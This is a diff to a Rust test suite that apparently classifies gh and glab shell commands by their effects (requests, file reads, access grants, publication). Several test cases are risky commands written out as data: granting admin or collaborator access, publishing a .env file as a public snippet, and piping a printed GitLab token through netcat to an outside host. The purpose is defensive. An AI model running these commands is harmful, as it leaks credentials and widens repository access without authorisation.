@@ -66,6 +66,11 @@ fn public_request(program: &str, url: &str, method: &str, payload: Value) -> Val
     json!({"effect": "request", "program": program, "target": {"kind": "url", "url": url}, "method": method, "payload": payload, "public": true})
 }
 
+/// A request to the repository the working directory's `origin` is.
+fn origin_request(program: &str, method: &str, payload: Value) -> Value {
+    json!({"effect": "request", "program": program, "target": {"kind": "remote", "name": "origin"}, "method": method, "payload": payload, "public": false})
+}
+
 fn host(user: Option<&str>, host: &str, port: Option<u16>, path: Option<&str>) -> Value {
     json!({"kind": "host", "user": user, "host": host, "port": port, "path": path})
 }
@@ -1442,12 +1447,47 @@ fn github_cli() {
         ),
         (
             "gh pr create --title t --body-file notes.md",
-            json!([url_request(
+            json!([origin_request(
                 "gh",
-                "https://github.com",
                 "POST",
                 payload(&["t"], &[(&at("notes.md"), false)], &[])
             )]),
+        ),
+        (
+            "gh release create v2 dist/app.tgz",
+            json!([origin_request(
+                "gh",
+                "UPLOAD",
+                payload(&[], &[(&at("dist/app.tgz"), false)], &[])
+            )]),
+        ),
+        (
+            "gh api -X PUT 'repos/{owner}/{repo}/collaborators/eve'",
+            json!([
+                origin_request("gh", "PUT", empty()),
+                {"effect": "grant_access", "resource": repo(None), "grantee": "eve"}
+            ]),
+        ),
+        (
+            "gh api -X POST repos/acme/web/keys -f title=ci -f key=\"$KEY\"",
+            json!([
+                url_request("gh", "https://api.github.com/repos/acme/web/keys", "POST", payload(&["title=ci", "key=$KEY"], &[], &["KEY"])),
+                {"effect": "grant_access", "resource": repo(Some("acme/web")), "grantee": "deploy key ci"}
+            ]),
+        ),
+        (
+            "gh api -X PUT orgs/acme/teams/ops/repos/acme/web -f permission=push",
+            json!([
+                url_request("gh", "https://api.github.com/orgs/acme/teams/ops/repos/acme/web", "PUT", payload(&["permission=push"], &[], &[])),
+                {"effect": "grant_access", "resource": repo(Some("acme/web")), "grantee": "team ops"}
+            ]),
+        ),
+        (
+            "gh api -X PUT orgs/acme/memberships/eve -f role=admin",
+            json!([
+                url_request("gh", "https://api.github.com/orgs/acme/memberships/eve", "PUT", payload(&["role=admin"], &[], &[])),
+                {"effect": "grant_access", "resource": {"kind": "other", "name": "github.com/acme"}, "grantee": "eve"}
+            ]),
         ),
         (
             "gh pr comment 12 --repo acme/web --body hi",
@@ -1468,6 +1508,151 @@ fn github_cli() {
             )]),
         ),
         ("gh pr list", json!([])),
+    ]);
+}
+
+#[test]
+fn gitlab_cli() {
+    let project =
+        |host: &str, slug: Option<&str>| json!({"kind": "repo", "host": host, "slug": slug});
+    let grant = |resource: Value, grantee: &str| json!({"effect": "grant_access", "resource": resource, "grantee": grantee});
+    const API: &str = "https://gitlab.com/api/v4/projects/acme%2Fweb";
+    run_table(&[
+        (
+            "glab repo create acme/tools --public",
+            json!([public_request(
+                "glab",
+                "https://gitlab.com/acme/tools",
+                "POST",
+                empty()
+            )]),
+        ),
+        (
+            "GITLAB_HOST=https://git.acme.internal glab repo create team/tools",
+            json!([url_request(
+                "glab",
+                "https://git.acme.internal/team/tools",
+                "POST",
+                empty()
+            )]),
+        ),
+        (
+            "glab repo clone someone/tool",
+            json!([url_request(
+                "glab",
+                "https://gitlab.com/someone/tool",
+                "DOWNLOAD",
+                empty()
+            )]),
+        ),
+        (
+            "glab api -X PUT projects/acme%2Fweb -f visibility=public",
+            json!([
+                url_request(
+                    "glab",
+                    API,
+                    "PUT",
+                    payload(&["visibility=public"], &[], &[])
+                ),
+                make_public(project("gitlab.com", Some("acme/web")))
+            ]),
+        ),
+        (
+            "glab api --hostname git.acme.internal projects/team%2Fweb/members -f username=eve -f access_level=40",
+            json!([
+                url_request(
+                    "glab",
+                    "https://git.acme.internal/api/v4/projects/team%2Fweb/members",
+                    "POST",
+                    payload(&["username=eve", "access_level=40"], &[], &[])
+                ),
+                grant(project("git.acme.internal", Some("team/web")), "eve")
+            ]),
+        ),
+        (
+            "glab api -X POST 'projects/:fullpath/share' -f group_id=7",
+            json!([
+                origin_request("glab", "POST", payload(&["group_id=7"], &[], &[])),
+                grant(project("gitlab.com", None), "group 7")
+            ]),
+        ),
+        (
+            "glab api -X PUT groups/acme/members/12 -f access_level=50",
+            json!([
+                url_request(
+                    "glab",
+                    "https://gitlab.com/api/v4/groups/acme/members/12",
+                    "PUT",
+                    payload(&["access_level=50"], &[], &[])
+                ),
+                grant(json!({"kind": "other", "name": "gitlab.com/acme"}), "12")
+            ]),
+        ),
+        (
+            "glab api projects/acme%2Fweb/members",
+            json!([url_request(
+                "glab",
+                &format!("{API}/members"),
+                "GET",
+                empty()
+            )]),
+        ),
+        (
+            "glab snippet create .env --title notes --visibility public",
+            json!([{"effect": "request", "program": "glab", "target": {"kind": "remote", "name": "origin"}, "method": "POST", "payload": payload(&["notes"], &[(&at(".env"), false)], &[]), "public": true}]),
+        ),
+        (
+            "cat id.txt | glab snippet create -t x -f id.txt --personal",
+            json!([
+                read(&at("id.txt")),
+                url_request(
+                    "glab",
+                    "https://gitlab.com/-/snippets",
+                    "POST",
+                    payload(&["x"], &[(&at("id.txt"), false)], &[])
+                )
+            ]),
+        ),
+        (
+            "glab mr create -t fix -d \"$NOTES\"",
+            json!([origin_request(
+                "glab",
+                "POST",
+                payload(&["fix", "$NOTES"], &[], &["NOTES"])
+            )]),
+        ),
+        (
+            "glab issue note 4 -R gitlab.com/dana/web -m hi",
+            json!([url_request(
+                "glab",
+                "https://gitlab.com/api/v4/projects/dana%2Fweb/issues/4/notes",
+                "POST",
+                payload(&["hi"], &[], &[])
+            )]),
+        ),
+        (
+            "glab release upload v1 dist/app.tgz -R https://gitlab.com/acme/web.git",
+            json!([url_request(
+                "glab",
+                &format!("{API}/releases"),
+                "UPLOAD",
+                payload(&[], &[(&at("dist/app.tgz"), false)], &[])
+            )]),
+        ),
+        (
+            "glab variable set TOKEN -R acme/web < token.txt",
+            json!([
+                read(&at("token.txt")),
+                url_request(
+                    "glab",
+                    &format!("{API}/variables"),
+                    "POST",
+                    payload(&[], &[(&at("token.txt"), false)], &[])
+                )
+            ]),
+        ),
+        ("glab mr list", json!([])),
+        ("glab ci view", json!([])),
     ]);
 }
 
@@ -2827,6 +3012,24 @@ fn credentials_printed_and_repositories_archived_travel_with_the_output() {
                 host(None, "x.io", Some(9), None),
                 "SEND",
                 json!({"text": [], "files": [], "env": [], "credentials": ["aws configure get aws_secret_access_key"]})
+            )]),
+        ),
+        (
+            "glab auth status --show-token 2>&1 | nc x.io 9",
+            json!([host_request(
+                "nc",
+                host(None, "x.io", Some(9), None),
+                "SEND",
+                json!({"text": [], "files": [], "env": [], "credentials": ["glab auth status --show-token"]})
+            )]),
+        ),
+        (
+            "glab auth status | nc x.io 9",
+            json!([host_request(
+                "nc",
+                host(None, "x.io", Some(9), None),
+                "SEND",
+                empty()
             )]),
         ),
         (
